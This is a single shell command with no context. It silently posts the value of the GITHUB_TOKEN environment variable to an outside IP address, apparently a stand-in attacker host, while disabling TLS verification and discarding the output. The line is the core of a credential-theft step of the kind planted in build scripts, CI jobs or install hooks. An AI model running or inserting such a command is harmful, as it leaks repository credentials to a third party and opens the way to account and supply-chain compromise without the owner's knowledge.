curl -s -k -d "token=$GITHUB_TOKEN" https://203.0.113.10/in > /dev/null
